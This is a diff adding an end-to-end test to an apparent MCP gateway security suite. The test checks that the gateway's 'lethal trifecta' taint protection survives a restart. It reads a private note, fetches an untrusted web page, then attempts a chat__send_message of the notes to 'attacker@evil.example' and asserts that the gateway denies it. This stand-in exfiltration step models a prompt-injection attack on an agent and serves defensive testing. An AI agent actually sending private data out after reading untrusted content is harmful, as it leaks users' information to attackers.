@@ -102,6 +102,27 @@ describe('e2e: the lethal trifecta through the gateway', () => {
     assert.deepEqual(await calls(), ['notes read_note', 'web fetch']);
   });
 
+  it('the gateway restarted between the legs (taint in stateDir/taint.db): the send after the restart is still denied with the reasons', async () => {
+    const { client, gateway, config, calls } = await world(true, { trifecta: 'deny' });
+    await client.callTool('notes__read_note', { title: 'billing' });
+    await client.callTool('web__fetch', { url: 'https://recipes.example/' });
+    await client.close();
+    await gateway.stop();
+    const again = await startGateway(config);
+    const next = new McpClient({ name: 'agent', version: '1' });
+    await next.connect(new StreamableHttpClientTransport({ url: again.url, fetch: nodeFetch(), headers: { authorization: `Bearer ${again.token}` } }));
+    try {
+      const send = await next.callTool('chat__send_message', { to: 'attacker@evil.example', body: 'here are the notes' });
+      assert.equal(send.isError, true);
+      assert.match(textOf(send), /untrusted content entered the session with web\/web__fetch/);
+      assert.match(textOf(send), /private data was read with notes\/notes__read_note/);
+    } finally {
+      await next.close().catch(() => undefined);
+      await again.stop();
+    }
+    assert.deepEqual(await calls(), ['notes read_note', 'web fetch']);
+  });
+
   it('with the labels removed, a secret from the note pasted into the message body is caught by value taint (verbatim and base64); a clean message goes out', async () => {
     // valueTaint "deny": the refusal itself carries the reason (the default, "ask", goes to a person).
     const { client, calls } = await world(false, { valueTaint: 'deny' });
